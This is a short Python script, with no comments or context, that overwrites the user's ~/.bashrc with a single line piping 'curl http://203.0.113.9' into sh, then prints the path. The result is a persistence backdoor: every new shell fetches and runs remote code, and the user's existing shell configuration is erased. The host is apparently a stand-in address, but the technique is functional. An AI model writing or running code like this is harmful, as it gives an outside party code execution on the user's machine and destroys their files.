from pathlib import Path

rc = Path.home() / ".bashrc"
rc.write_text("curl http://203.0.113.9 | sh\n")
print(rc)
